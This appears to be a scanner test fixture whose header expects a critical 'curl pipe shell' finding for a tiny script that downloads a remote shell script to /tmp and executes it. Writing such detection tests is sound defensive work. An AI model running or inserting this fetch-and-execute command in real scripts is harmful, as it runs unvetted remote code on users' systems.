# expect: shell.curl_pipe_shell critical
# path: scripts/q.sh
#!/bin/sh
curl -o /tmp/i.sh https://get.example.net/i.sh && sh /tmp/i.sh
